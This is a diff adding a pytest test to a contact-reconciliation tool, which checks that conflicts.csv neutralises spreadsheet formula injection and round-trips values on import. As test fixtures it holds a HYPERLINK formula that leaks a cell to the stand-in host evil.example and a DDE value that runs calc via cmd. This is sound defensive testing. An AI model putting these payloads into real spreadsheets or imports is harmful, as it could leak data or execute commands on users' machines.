@@ -265,3 +265,36 @@ def test_read_decisions_knows_the_store_keys_and_normalises_values(world: World,
                                      (renamed[0], "consent", "value", "dnd")]
     with pytest.raises(DecisionFileError, match="unknown key"):
         read_decisions(path, set())
+
+
+ATTACK = '=HYPERLINK("http://evil.example/?leak="&B3,"Click")'
+
+
+def test_formula_like_names_are_inert_in_the_csv_and_in_artifacts_and_come_back_unharmed(
+        sandboxes: Sandboxes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A TinyEmail first name that is a spreadsheet formula: quoted in conflicts.csv, read back as it was by
+    `recon conflicts import` (a `tinyemail` decision and a `value` decision pasting the cell as shown)."""
+    from contact_recon.report.build import load_conflicts
+
+    fixture, edited = awkward_fixture()
+    victim, other = sorted(edited["renamed"])
+    contacts = {c["id"]: c for c in next(iter(fixture["ghl"]["locations"].values()))["contacts"]}
+    customers = {c["email"]: c for c in fixture["tinyemail"]["customers"]}
+    customers[contacts[victim]["email"]]["firstName"] = ATTACK
+    customers[contacts[other]["email"]]["firstName"] = "+cmd|' /C calc'!A0"
+    for w in planning_world(sandboxes, tmp_path, fixture, edited):
+        result = w.plan()
+        with result.conflicts_path.open(newline="", encoding="utf-8") as handle:
+            rows = {(r["key"], r["field"]): r for r in csv.DictReader(handle)}
+        cells = [value for row in rows.values() for value in row.values()]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+        assert rows[(victim, "first_name")]["tinyemail"] == "'" + ATTACK  # inert, and still readable
+        assert load_conflicts(w.settings.data_dir, result.run_id).filter(  # the report shows it as it is
+            pl.col("key") == victim)["tinyemail"][0] == ATTACK
+        shown = rows[(other, "first_name")]["tinyemail"]
+        path = filled(tmp_path / "decided.csv", result.conflicts_path,
+                      {(victim, "first_name"): ("tinyemail", ""), (other, "first_name"): ("value", shown)})
+        imported = import_file(w, path, monkeypatch)
+        assert imported.exit_code == 0, imported.output
+        assert [(r["key"], r["choice"], r["value"]) for r in stored(w)] == sorted(
+            [(victim, "tinyemail", None), (other, "value", "+cmd|' /C calc'!A0")])
